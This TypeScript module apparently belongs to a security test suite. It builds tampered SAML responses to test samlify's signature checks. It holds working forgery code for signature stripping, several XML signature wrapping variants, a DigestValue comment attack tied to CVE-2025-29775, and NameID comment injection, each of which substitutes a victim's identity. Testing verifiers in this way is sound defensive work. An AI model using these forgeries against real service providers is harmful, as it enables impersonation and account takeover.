import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { fromBase64, samlId, toBase64, type KeyPair } from './saml-idp.js';

/*
 * Tampering with responses samlify signed, as an attacker holding one valid response for their
 * own account would. Each function takes and returns base64, as posted.
 */

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const serialize = (node: Node) => new XMLSerializer().serializeToString(node);

function child(parent: Node, ns: string, name: string): Element | null {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name) return n as Element;
  }
  return null;
}

/** A copy of `el` with a new ID, no signature of its own and the victim's NameID (every NameID inside). */
function forged(el: Element, victim: string, keepId = false): Element {
  const copy = el.cloneNode(true) as Element;
  if (!keepId) copy.setAttribute('ID', samlId());
  const sig = child(copy, DSIG, 'Signature');
  if (sig) copy.removeChild(sig);
  const nameIds = copy.getElementsByTagNameNS(ASSERTION, 'NameID');
  for (let i = 0; i < nameIds.length; i++) nameIds[i]!.textContent = victim;
  return copy;
}

/** Every ds:Signature removed: the content as signed, without the proof. */
export function stripSignatures(b64: string): string {
  const doc = parse(fromBase64(b64));
  const sigs = doc.getElementsByTagNameNS(DSIG, 'Signature');
  for (let i = sigs.length - 1; i >= 0; i--) sigs[i]!.parentNode!.removeChild(sigs[i]!);
  return toBase64(serialize(doc));
}

export type ResponseWrapping = 'signature-object' | 'sibling' | 'extensions';

/**
 * XML signature wrapping against a signed Response: a forged Response (the victim's NameID) as
 * the root, the signed original moved where a careless verifier still finds its signature valid.
 */
export function wrapResponse(b64: string, victim: string, variant: ResponseWrapping): string {
  const doc = parse(fromBase64(b64));
  const original = doc.documentElement;
  const evil = forged(original, victim);
  const issuer = child(evil, ASSERTION, 'Issuer')!;
  const signature = child(original, DSIG, 'Signature')!.cloneNode(true) as Element;
  if (variant === 'signature-object') {
    const object = doc.createElementNS(DSIG, 'ds:Object');
    object.appendChild(original.cloneNode(true));
    signature.appendChild(object);
    evil.insertBefore(signature, issuer.nextSibling);
  } else if (variant === 'sibling') {
    evil.insertBefore(signature, issuer.nextSibling);
    evil.appendChild(original.cloneNode(true));
  } else {
    const extensions = doc.createElementNS(PROTOCOL, 'samlp:Extensions');
    extensions.appendChild(original.cloneNode(true));
    evil.insertBefore(extensions, issuer.nextSibling);
  }
  return toBase64(serialize(evil));
}

export type AssertionWrapping = 'before' | 'after' | 'wrap' | 'extensions' | 'signature-object' | 'same-id';

/** XML signature wrapping against a signed Assertion in an unsigned Response. */
export function wrapAssertion(b64: string, victim: string, variant: AssertionWrapping): string {
  const doc = parse(fromBase64(b64));
  const response = doc.documentElement;
  const original = child(response, ASSERTION, 'Assertion')!;
  const evil = forged(original, victim, variant === 'same-id');
  switch (variant) {
    case 'before':
    case 'same-id':
      response.insertBefore(evil, original);
      break;
    case 'after':
      response.appendChild(evil);
      break;
    case 'wrap':
      evil.appendChild(original.cloneNode(true));
      response.replaceChild(evil, original);
      break;
    case 'extensions': {
      const extensions = doc.createElementNS(PROTOCOL, 'samlp:Extensions');
      extensions.appendChild(original.cloneNode(true));
      response.insertBefore(extensions, child(response, PROTOCOL, 'Status'));
      response.replaceChild(evil, original);
      break;
    }
    case 'signature-object': {
      const signature = child(original, DSIG, 'Signature')!.cloneNode(true) as Element;
      const object = doc.createElementNS(DSIG, 'ds:Object');
      object.appendChild(original.cloneNode(true));
      signature.appendChild(object);
      evil.insertBefore(signature, child(evil, ASSERTION, 'Issuer')!.nextSibling);
      response.replaceChild(evil, original);
      break;
    }
  }
  return toBase64(serialize(doc));
}

/** Two documents in one: a second (forged) root after the signed one. */
export function secondRoot(b64: string, victim: string): string {
  const doc = parse(fromBase64(b64));
  const evil = forged(doc.documentElement, victim);
  return toBase64(serialize(doc) + serialize(evil));
}

/** The XML, signed by `keys` with one Signature holding two References (the Response and the Assertion). */
export function signWithTwoReferences(xml: string, keys: KeyPair): string {
  const sig = new SignedXml({
    privateKey: keys.privateKey,
    publicCert: keys.cert,
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  const transforms = ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'];
  sig.addReference({ xpath: "/*[local-name(.)='Response']", transforms, digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256' });
  sig.addReference({ xpath: "//*[local-name(.)='Assertion']", transforms, digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256' });
  sig.computeSignature(xml, { prefix: 'ds', location: { reference: "/*[local-name(.)='Response']/*[local-name(.)='Issuer']", action: 'after' } });
  return toBase64(sig.getSignedXml());
}

/**
 * The DigestValue comment attack (xml-crypto CVE-2025-29775): the forged document's own digest
 * hidden in a comment at the start of DigestValue, the genuine digest after it. Canonical
 * SignedInfo drops the comment, so the IdP's SignatureValue still matches; a verifier reading
 * the DigestValue's first child would compare the forged digest and accept.
 *
 * `legit` is the IdP-signed response for the attacker; `forgedSigned` is the same response (same
 * IDs and instants) for the victim, signed with any key: its DigestValue is the forged content's.
 */
export function commentInDigestValue(legit: string, forgedSigned: string): string {
  const digestOf = (xml: string) => /<ds:DigestValue>([^<]*)<\/ds:DigestValue>/u.exec(xml)![1]!;
  const legitXml = fromBase64(legit);
  const forgedXml = fromBase64(forgedSigned);
  const legitSignature = /<ds:Signature[\s\S]*<\/ds:Signature>/u.exec(legitXml)![0];
  const doctored = legitSignature.replace(
    `<ds:DigestValue>${digestOf(legitXml)}</ds:DigestValue>`,
    `<ds:DigestValue><!--${digestOf(forgedXml)}-->${digestOf(legitXml)}</ds:DigestValue>`,
  );
  return toBase64(forgedXml.replace(/<ds:Signature[\s\S]*<\/ds:Signature>/u, doctored));
}

/** A signed NameID with an XML comment inserted (`user@corp.com<!---->.evil.com`); the signature still verifies. */
export function commentInNameId(b64: string, nameID: string, at: number): string {
  const xml = fromBase64(b64);
  const tampered = xml.replace(`>${nameID}</saml:NameID>`, `>${nameID.slice(0, at)}<!---->${nameID.slice(at)}</saml:NameID>`);
  if (tampered === xml) throw new Error('NameID not found');
  return toBase64(tampered);
}
